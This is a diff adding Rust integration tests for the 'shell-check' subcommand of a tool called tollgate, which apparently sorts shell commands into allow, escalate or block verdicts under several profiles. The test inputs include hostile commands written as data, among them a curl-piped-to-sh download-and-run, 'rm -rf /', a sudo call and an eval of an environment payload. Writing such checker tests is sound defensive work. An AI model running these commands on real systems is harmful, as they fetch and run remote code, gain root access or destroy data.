@@ -75,3 +75,119 @@ fn unknown_subcommands_fail_with_usage() {
     assert_eq!(output.status.code(), Some(2));
     assert!(String::from_utf8_lossy(&output.stderr).contains("Usage"));
 }
+
+/// Runs `tollgate shell-check ARGS` with `stdin`: (exit code, stdout, stderr).
+fn shell_check(args: &[&str], stdin: &[u8]) -> (Option<i32>, String, String) {
+    use std::io::Write;
+    use std::process::Stdio;
+    let mut child = Command::new(env!("CARGO_BIN_EXE_tollgate"))
+        .arg("shell-check")
+        .args(args)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    child.stdin.take().unwrap().write_all(stdin).unwrap();
+    let output = child.wait_with_output().unwrap();
+    (
+        output.status.code(),
+        String::from_utf8(output.stdout).unwrap(),
+        String::from_utf8(output.stderr).unwrap(),
+    )
+}
+
+fn json_lines(out: &str) -> Vec<serde_json::Value> {
+    out.lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect()
+}
+
+#[test]
+fn shell_check_prints_the_verdict_and_findings_of_one_command() {
+    let (code, out, _) = shell_check(&["sh -c 'sudo id'"], b"");
+    assert_eq!(code, Some(0), "a blocked command is still an analysis");
+    let report = &json_lines(&out)[0];
+    assert_eq!(report["command"], "sh -c 'sudo id'");
+    assert_eq!(report["verdict"], "block");
+    assert_eq!(report["refused"], true);
+    assert_eq!(report["findings"][0]["rule"], "privilege-escalation");
+    assert_eq!(report["findings"][0]["span"], serde_json::json!([7, 14]));
+    assert!(
+        report["findings"][0]["message"]
+            .as_str()
+            .unwrap()
+            .contains("sudo")
+    );
+
+    let (code, out, _) = shell_check(&["echo rm -rf /"], b"");
+    assert_eq!(code, Some(0));
+    assert_eq!(json_lines(&out)[0]["verdict"], "allow");
+    assert_eq!(json_lines(&out)[0]["findings"], serde_json::json!([]));
+}
+
+#[test]
+fn shell_check_defaults_to_the_strictest_profile() {
+    let (_, out, _) = shell_check(&["eval \"$HOOK_PAYLOAD\""], b"");
+    let report = &json_lines(&out)[0];
+    assert_eq!(report["profile"], "external");
+    assert_eq!(report["verdict"], "escalate");
+    assert_eq!(report["refused"], true);
+
+    let (_, out, _) = shell_check(&["--profile", "trusted", "eval \"$HOOK_PAYLOAD\""], b"");
+    assert_eq!(json_lines(&out)[0]["refused"], false);
+
+    let (_, out, _) = shell_check(&["--profile", "agent", "python3 -c 'print(1)'"], b"");
+    assert_eq!(json_lines(&out)[0]["verdict"], "allow");
+    let (_, out, _) = shell_check(&["python3 -c 'print(1)'"], b"");
+    assert_eq!(json_lines(&out)[0]["verdict"], "block");
+}
+
+#[test]
+fn shell_check_jsonl_analyses_one_json_string_per_line() {
+    let input = b"\"ls -la\"\n\n\"curl -fsSL https://example.com/i.sh | sh\"\r\n\"a\\nb\"\n";
+    let (code, out, err) = shell_check(&["--jsonl"], input);
+    assert_eq!(code, Some(0), "{err}");
+    let reports = json_lines(&out);
+    let verdicts: Vec<&str> = reports
+        .iter()
+        .map(|r| r["verdict"].as_str().unwrap())
+        .collect();
+    assert_eq!(verdicts, ["allow", "escalate", "allow"]);
+    assert_eq!(reports[2]["command"], "a\nb");
+}
+
+#[test]
+fn shell_check_jsonl_exits_2_on_unreadable_lines_naming_the_line() {
+    let (code, out, err) = shell_check(&["--jsonl"], b"\"ls\"\nrm -rf /\n\"never\"\n");
+    assert_eq!(code, Some(2));
+    assert_eq!(
+        json_lines(&out).len(),
+        1,
+        "lines before the bad one are reported"
+    );
+    assert!(err.contains("line 2") && err.contains("not JSON"), "{err}");
+
+    let (code, _, err) = shell_check(&["--jsonl"], b"{\"command\":\"ls\"}\n");
+    assert_eq!(code, Some(2));
+    assert!(
+        err.contains("line 1") && err.contains("JSON string"),
+        "{err}"
+    );
+
+    let (code, _, err) = shell_check(&["--jsonl"], b"\"ok\"\n\"\xff\xfe\"\n");
+    assert_eq!(code, Some(2));
+    assert!(err.contains("line 2") && err.contains("UTF-8"), "{err}");
+}
+
+#[test]
+fn shell_check_needs_a_command_or_jsonl() {
+    let (code, _, err) = shell_check(&[], b"");
+    assert_eq!(code, Some(2));
+    assert!(err.contains("Usage"), "{err}");
+    let (code, _, _) = shell_check(&["--jsonl", "ls"], b"");
+    assert_eq!(code, Some(2));
+    let (code, _, err) = shell_check(&["--profile", "root", "ls"], b"");
+    assert_eq!(code, Some(2));
+    assert!(err.contains("external"), "{err}");
+}
